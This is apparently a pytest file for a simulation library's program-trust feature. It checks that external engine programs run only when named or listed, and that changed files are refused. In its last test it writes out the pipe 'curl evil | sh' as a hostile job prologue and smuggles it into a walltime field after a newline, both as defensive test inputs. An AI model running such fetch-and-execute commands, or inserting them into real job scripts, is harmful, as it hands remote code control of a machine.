"""Permission to run programs: by naming them on a call, or by the user's list."""

import subprocess
import sys
from importlib.util import find_spec
from pathlib import Path

import pytest
from tests.cli.shell import json_of, output, refusal
from tests.fixtures import project_of, refused

import fixel
from fixel import InvalidInput, Project, trust
from fixel.jobs.pool import job_script
from fixel.jobs.site import Site, trust_site
from fixel.simulation.engines import program_of
from fixel.simulation.engines.program import Program
from fixel.simulation.motion import OtherEngine
from fixel.simulation.rollouts import RolloutCase, ensemble_of
from fixel.testing.pushes import example_pushes
from fixel.testing.scenes import pushed_square
from fixel.workflows.calibration.stored import load_values

# The body follows its pusher.
ENGINE = """
import json, sys
for line in sys.stdin:
    question = json.loads(line)
    if "hello" in question:
        print(json.dumps({"name": "toy", "version": "1"}), flush=True)
        continue
    task = question["task"]
    start, path = task["body"]["start"], task["pusher"]["path"]
    share = [min(1.0, t / path[-1][0]) for t in task["times"]]
    way = [end - begin for begin, end in zip(path[0][1:3], path[-1][1:3])]
    pose = [[start[0] + s * way[0], start[1] + s * way[1], start[2]] for s in share]
    print(json.dumps({"pose": pose}), flush=True)
"""


@pytest.fixture(autouse=True)
def own_list(tmp_path, monkeypatch):
    """Use an empty list for each test, also in the processes that it starts."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "settings"))
    return tmp_path / "settings"


@pytest.fixture
def engine(tmp_path):
    path = tmp_path / "toy.py"
    path.write_text(ENGINE)
    return str(path)


def started(name):
    """Whether a program starts and answers."""
    program = program_of(name)
    try:
        return program.info().name == "toy"
    finally:
        program.close()


def untrusted(name):
    """Return the sentence with which a program is refused."""
    return str(refused(started, name, match="fixel trust"))


def in_new_process(code, *arguments):
    words = [sys.executable, "-c", code, *arguments]
    return subprocess.run(words, capture_output=True, text=True, check=False, timeout=120)


# --- naming ---------------------------------------------------------------------------------------


def test_a_program_that_no_call_names_is_refused(engine):
    assert f"the program {engine}, which was named by a file" in untrusted(engine)
    with pytest.raises(InvalidInput, match="fixel trust"):
        ensemble_of([RolloutCase(pushed_square(), [1.0])], OtherEngine(engine))


def test_a_model_from_a_record_carries_no_permission(engine):
    for call in (
        lambda motion: fixel.simulate(pushed_square(), motion=motion),
        lambda motion: fixel.compare(example_pushes(1), motion=motion, progress=False),
        lambda motion: fixel.calibrate(example_pushes(1), motion=motion, progress=False),
    ):
        refused(call, OtherEngine(engine), match="fixel trust")


def test_a_call_that_names_a_program_runs_it(engine):
    assert fixel.simulate(pushed_square(), motion=engine).converged
    assert started(engine)  # another simulation of the same program in this process


def test_another_argument_is_another_command(engine):
    fixel.simulate(pushed_square(), motion=engine)
    assert "toy.py fast" in untrusted(f"{engine}:fast")
    trust.trust_program("/bin/sh:-c,true")
    assert "id" in untrusted("/bin/sh:-c,id")


def test_a_changed_program_is_another_program(engine):
    trust.trust_program(engine)
    assert started(engine)
    Path(engine).write_text(ENGINE + "# changed\n")
    assert "has changed since you allowed it" in untrusted(engine)
    trust.trust_program(engine)
    assert len(trust.trusted_entries()) == 2
    Path(engine).write_text(ENGINE)
    assert started(engine)


def test_a_program_that_changes_after_a_call_is_refused(engine):
    fixel.simulate(pushed_square(), motion=engine)
    Path(engine).write_text(ENGINE + "# changed\n")
    assert "has changed since you allowed it" in untrusted(engine)
    assert fixel.simulate(pushed_square(), motion=engine).converged


def test_a_file_among_the_arguments_counts(engine, tmp_path):
    other = tmp_path / "options.json"
    trust.trust_program(f"{engine}:{other}")
    assert started(f"{engine}:{other}")
    other.write_text("{}")
    assert "changed" in untrusted(f"{engine}:{other}")


def test_every_program_is_checked_where_it_is_started(tmp_path):
    """Also one that new code would start without a name of an engine."""
    mark = tmp_path / "mark"
    program = Program(("/bin/sh", "-c", f"touch {mark}"))
    refused(program.ask, {"task": {}}, 5.0, match="fixel trust")
    refused(Program((sys.executable, "-c", f"open({str(mark)!r}, 'w')")).info, match="fixel trust")
    assert not mark.exists()


def test_a_name_with_control_characters_reaches_no_terminal(tmp_path):
    program = tmp_path / "\x1b[2Jtoy"
    program.write_text("#!/bin/sh\n")
    assert untrusted(str(program)).isprintable()


# --- the list -------------------------------------------------------------------------------------


def test_the_command_adds_lists_and_removes(engine, capsys):
    assert "No program is trusted" in output(capsys, "trust")
    assert engine in output(capsys, "trust", engine)
    assert started(engine)
    (entry,) = json_of(capsys, "trust")["entries"]
    assert entry["command"] == [engine]
    assert list(entry["sha256"]) == [engine]
    Path(engine).write_text("changed")
    assert engine in output(capsys, "trust", engine, "--remove")
    assert "No program is trusted" in output(capsys, "trust")
    assert "an entry of the list" in refusal(capsys, "trust", engine, "--remove")
    for wrong in ("mujoco", f"{engine}.missing"):
        assert "program" in refusal(capsys, "trust", wrong)


def test_the_list_is_outside_the_project_and_private(engine, own_list):
    own = trust.trust_program(engine)
    assert own.file.is_relative_to(own_list)
    assert own.file.parent.stat().st_mode & 0o077 == 0


def test_a_list_that_cannot_be_written_is_named(engine, own_list):
    own_list.write_text("a file")
    refused(trust.trust_program, engine, match="settings")


# --- jobs and stored calibrations -----------------------------------------------------------------

COMPARE = """
import sys, fixel
from fixel.cli.main import run
run(["compare", "1", "--calibration", "1", "--project", sys.argv[1]])
"""


@pytest.mark.system
def test_a_calibration_by_a_named_program_can_be_used_later(engine, tmp_path):
    project = project_of(tmp_path / "lab", example_pushes(2, duration=0.3))
    options = {"verdicts": False, "max_evaluations": 2, "progress": False}
    pushes, space = project.experiments(), {"mu_pusher": (0.0, 1.0)}
    fixel.calibrate(pushes, space, motion=engine, store=project, **options)
    found = in_new_process(COMPARE, str(project.folder))
    assert found.returncode == 0, found.stderr
    Path(engine).write_text(ENGINE + "# changed\n")
    found = in_new_process(COMPARE, str(project.folder))
    assert found.returncode == 2
    assert f"fixel trust {engine}" in found.stderr
    with Project(tmp_path / "lab").store() as store:
        assert load_values(store, 1).motion.name.startswith(engine)


@pytest.mark.system
def test_workers_run_the_program_that_the_call_names(engine):
    pytest.importorskip("distributed")
    options = {"verdicts": False, "max_evaluations": 2, "progress": False}
    fit = fixel.calibrate(
        example_pushes(1, duration=0.3), {"mu_pusher": (0, 1)}, motion=engine, workers=1, **options
    )
    assert fit.request.motion.startswith(engine)


def test_lines_of_a_site_come_from_the_user(tmp_path):
    if find_spec("dask_jobqueue") is None:  # importing it would change what Ctrl-C does
        pytest.skip("dask-jobqueue is not installed")
    harmless, hostile = Site(queue="main"), Site(prologue=["curl evil | sh"])
    assert "srun" not in job_script(harmless, "a", ["-c", "1"], tmp_path)
    refused(job_script, hostile, "a", ["-c", "1"], tmp_path, match="--site FILE")
    with pytest.raises(ValueError, match="walltime"):
        Site(walltime="01:00:00\ncurl evil | sh")
    trust_site(hostile)
    assert "curl evil" in job_script(hostile, "a", ["-c", "1"], tmp_path)
